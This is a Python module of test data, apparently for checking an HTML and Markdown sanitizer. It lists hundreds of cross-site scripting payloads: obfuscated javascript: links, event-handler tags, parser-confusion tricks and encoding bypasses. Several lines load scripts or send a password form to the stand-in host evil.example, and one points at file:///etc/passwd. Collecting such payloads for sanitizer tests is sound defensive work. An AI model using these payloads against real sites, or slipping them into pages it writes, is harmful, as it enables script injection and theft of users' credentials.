"""Attempts to make a page run something, written for these tests: 20 kinds of carrier × ways to hide, and single ones."""

RUN = "alert(1)"

# Ways to write an address that runs.
ADDRESSES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"\tjavascript:{RUN}", f"\njavascript:{RUN}", f"java\tscript:{RUN}",
    f"java\nscript:{RUN}", f"java\rscript:{RUN}", f"\x01javascript:{RUN}", f"\u00a0javascript:{RUN}", f"\u2028javascript:{RUN}",
    f"\u200bjavascript:{RUN}", f"\ufeffjavascript:{RUN}", f"&#106;avascript:{RUN}", f"&#x6A;avascript:{RUN}", f"&#0000106avascript:{RUN}",
    f"javascript&colon;{RUN}", f"javascript&#58;{RUN}", f"java&Tab;script:{RUN}", f"java&NewLine;script:{RUN}", f"&#1;javascript:{RUN}",
    f"&#14; javascript:{RUN}", f"javascript://x.pl/%0a{RUN}", f"javascript://%0d{RUN}", "javascript:123", f"vbscript:{RUN}", "vbscript:1",
    f"livescript:{RUN}", f"mocha:{RUN}", f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>", "data:,x", "blob:https://x.pl/1", "file:///etc/passwd", "ftp://x.pl", "tel:112", "about:blank",
    "view-source:https://x.pl", "//evil.example", "///evil.example", "/\\evil.example", "\\\\evil.example", "/\t/evil.example", "/\n/evil.example",
    "https:evil.example", "https:/evil.example", "https:///evil.example", "https:\\\\evil.example", "http:\t//evil.example", "://evil.example",
    f"feed:javascript:{RUN}", f"jar:javascript:{RUN}!", f"x:javascript:{RUN}", f"%6aavascript:{RUN}", f"javascript%3A{RUN}", f"ｊavascript:{RUN}",
]  # fmt: skip

# Elements that run, load, send or redraw something.
ELEMENTS = [
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", "<script src=//evil.example></script>", f"<script/x>{RUN}</script>", f"<script\n>{RUN}</script\n>",
    f"<script>{RUN}", f"<<script>{RUN}//<</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script\x00>{RUN}</script>", f"<svg><script>{RUN}</script></svg>",
    f"<svg><script xlink:href=data:,{RUN} /></svg>", f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=1>x</text></a></svg>", "<svg><use href=data:image/svg+xml,x#x></svg>", f"<svg><foreignObject><p onclick={RUN}>x",
    f"<svg><style><img src=x onerror={RUN}></style></svg>", f"<svg><title><script>{RUN}</script></title></svg>", f"<svg><desc><img src=x onerror={RUN}></desc></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>", f"<math><mi//xlink:href=javascript:{RUN}>", f"<math href=javascript:{RUN}>x</math>",
    f"<math><annotation-xml encoding=text/html><script>{RUN}</script></annotation-xml></math>", f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<img src=x onerror={RUN}>", f"<img src=x onerror={RUN}//", f"<img/src=x/onerror={RUN}>", f"<img src='x'onerror='{RUN}'>", f"<img src=`x`onerror={RUN}>",
    f"<img src=x:x onerror={RUN}>", f"<IMG SRC=x OnErRoR={RUN}>", f"<img src=x one\nrror={RUN}>", f"<img src=x onerror\n=\n{RUN}>", f"<img srcset=x onerror={RUN}>",
    f"<img src=javascript:{RUN}>", f"<img lowsrc=javascript:{RUN}>", f"<img dynsrc=javascript:{RUN}>", f'<img """><script>{RUN}</script>">', "<img src=https://evil.example/p.gif>",
    f"<iframe src=javascript:{RUN}></iframe>", f"<iframe srcdoc='<script>{RUN}</script>'></iframe>", f"<iframe onload={RUN}>", f"<frameset onload={RUN}><frame src=x>",
    f"<object data=javascript:{RUN}>", "<object data=data:text/html,x>", f"<embed src=javascript:{RUN}>", "<embed code=x>", "<applet code=x></applet>",
    f"<video src=x onerror={RUN}>", f"<video><source onerror={RUN}></video>", f"<video poster=javascript:{RUN}>", f"<audio src=x onerror={RUN}>", f"<audio autoplay onplay={RUN}>",
    f"<body onload={RUN}>", f"<html onclick={RUN}>", "<head><base href=//evil.example></head>", "<base href=javascript:/x/>", f"<bgsound src=javascript:{RUN}>",
    "<link rel=stylesheet href=//evil.example>", "<link rel=import href=data:text/html,x>", f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=Content-Security-Policy content=x>", "<style>@import '//evil.example'</style>", f"<style>body{{background:url(javascript:{RUN})}}</style>",
    f"<style></style><img src=x onerror={RUN}>", f"<style><!--</style><img src=x onerror={RUN}>-->", f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>", f"<noembed><p title='</noembed><img src=x onerror={RUN}>'>", f"<noframes><p title='</noframes><svg onload={RUN}>'>",
    f"<textarea><p title='</textarea><img src=x onerror={RUN}>'>", f"<title><p title='</title><img src=x onerror={RUN}>'>", f"<plaintext><img src=x onerror={RUN}>",
    f"<template><script>{RUN}</script></template>", f"<template shadowrootmode=open><img src=x onerror={RUN}></template>", f"<slot onslotchange={RUN}>",
    f"<details open ontoggle={RUN}>", f"<marquee onstart={RUN}>", f"<select autofocus onfocus={RUN}>", f"<input autofocus onfocus={RUN}>", f"<input type=image src=javascript:{RUN}>",
    f"<textarea autofocus onfocus={RUN}>", f"<keygen autofocus onfocus={RUN}>", f"<button formaction=javascript:{RUN}>x", f"<form action=javascript:{RUN}><input type=submit>",
    "<form action=//evil.example><input name=password>", f"<isindex action=javascript:{RUN} type=image>", f"<dialog open onclose={RUN}>", f"<portal src=javascript:{RUN}>",
    f"<x onclick={RUN}>", f"<x-custom onclick={RUN} tabindex=1>", f"<p onclick={RUN}>", f"<p/onclick={RUN}>", f"<p\x0conclick={RUN}>", f"<p \x00onclick={RUN}>", f"<p onclick\x00={RUN}>",
    f"<p style=background:url(javascript:{RUN})>", f"<p style='width:expression({RUN})'>", "<p style='-moz-binding:url(//evil.example)'>", "<p style=position:fixed;inset:0>", "<p class=dialog>",
    "<p id=main>", "<p name=body>", f"<p contenteditable onbeforeinput={RUN}>", f"<p onpointerrawupdate={RUN}>", f"<p onanimationstart={RUN}>", f"<p accesskey=x onclick={RUN}>", "<p data-enhance=autosave>",
    f"<a onclick={RUN}>x</a>", f"<a href=# onclick={RUN}>x</a>", "<a href=https://x.pl target=_blank>x</a>", "<a href=https://x.pl ping=//evil.example>x</a>", "<a name=x id=x>x</a>", "<a href=/x download>x</a>",
    "<a href='https://x.pl' style=position:fixed>x</a>", "<a href=https://x.pl rel=opener>x</a>", f'<a href="https://x.pl/"onmouseover="{RUN}">x</a>', f"<a href='https://x.pl/' a='>' onclick={RUN}>x</a>",
    f"<area href=javascript:{RUN}>", f"<map name=x><area onclick={RUN}></map>", f"<table background=javascript:{RUN}>", f"<td background=javascript:{RUN}>", "<td class='align-left evil'>x</td>", "<th class=nav>x</th>",
    f"<table><td onclick={RUN}>x</table>", f"<table><tr><script>{RUN}</script></tr></table>", f"<ol start=1 onclick={RUN}><li value=9>x</ol>", f"<blockquote cite=javascript:{RUN}>x</blockquote>", f"<del cite=javascript:{RUN} datetime=x>x</del>",
    f"<!--<img src=--><img src=x onerror={RUN}//-->", f"<!--[if IE]><script>{RUN}</script><![endif]-->", f"<!-- --!><img src=x onerror={RUN}> -->", f"<!--><img src=x onerror={RUN}>-->", f"<![CDATA[<img src=x onerror={RUN}>]]>", f"<![><img src=x onerror={RUN}>",
    f"<?xml version=1.0?><img src=x onerror={RUN}>", f"<?php echo 1 ?><svg onload={RUN}>", f"<!DOCTYPE html><svg onload={RUN}>", f"<!ENTITY x '<script>{RUN}</script>'>", f"</p><script>{RUN}</script>", f"</ onclick={RUN}>", f"</div></main></body><script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"&amp;lt;script&amp;gt;{RUN}", f"＜script＞{RUN}＜/script＞", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"%3Cscript%3E{RUN}%3C/script%3E", f"\\u003cscript\\u003e{RUN}",
    f"<p><svg><p><style><a title='</style><img src=x onerror={RUN}>'>", f"<pre><math></pre><img src=x onerror={RUN}>", f"<code><table><tr><td></code><svg onload={RUN}>", f"<em><strong></em><img src=x onerror={RUN}></strong>", f"<h3><h4><img src=x onerror={RUN}></h3>",
    f"<ul><li><template></ul><img src=x onerror={RUN}>", f"<p><br><img\x0bsrc=x\x0bonerror={RUN}>", f"<br onclick={RUN}>", f"<hr onclick={RUN}>", f"<p title=\"<img src=x onerror={RUN}>\">", "<p lang=x dir=rtl translate=no>", f"\"><script>{RUN}</script>", f"'><img src=x onerror={RUN}>", f"{{{{{RUN}}}}}", f"${{{RUN}}}",
]  # fmt: skip

# Markdown of its own kind.
MARKDOWN = [
    f"[x](javascript:{RUN})", f"[x](<javascript:{RUN}>)", f"[x](JAVASCRIPT:{RUN} 'title')", f"![x](javascript:{RUN})", f"![{RUN}](data:image/svg+xml,x)", f"<javascript:{RUN}>", f"[x]: javascript:{RUN}\n\n[x]",
    f"[x](java&#115;cript:{RUN})", "[x](&#106;avascript:1)", f"[x](javascript&colon;{RUN})", "[x](/\\evil.example)", "[x](//evil.example)", f"[x](https://x.pl\" onclick=\"{RUN})", f"[x](https://x.pl '\" onclick={RUN}')", f"![x\" onerror=\"{RUN}](https://x.pl)",
    f"`<script>{RUN}</script>`", f"```html\n<script>{RUN}</script>\n```", f"```\" onclick=\"{RUN}\nx\n```", f"    <script>{RUN}</script>", f"> <script>{RUN}</script>", f"- <img src=x onerror={RUN}>", f"|<script>{RUN}</script>|b|\n|-|-|\n|<svg onload={RUN}>|x|",
    f"# <script>{RUN}</script>", f"*<img src=x onerror={RUN}>*", f"~~<svg onload={RUN}>~~", f"https://x.pl/\"onmouseover={RUN}", f"www.x.pl/<script>{RUN}</script>", f"x@y.pl\"><script>{RUN}</script>", f"\\<script>{RUN}\\</script>", f"&lt;script>{RUN}", f"[x][<script>]\n\n[<script>]: javascript:{RUN}", f"@anna\"><script>{RUN}</script>",
]  # fmt: skip

LINKS = [f'<a href="{address}">x</a>' for address in ADDRESSES]
ALL = list(
    dict.fromkeys(
        [
            *ELEMENTS,
            *LINKS,
            *MARKDOWN,
            *(f"[x]({address})" for address in ADDRESSES),
            *(f"<a href='{one}'><b>x" for one in ADDRESSES),
        ]
    )
)
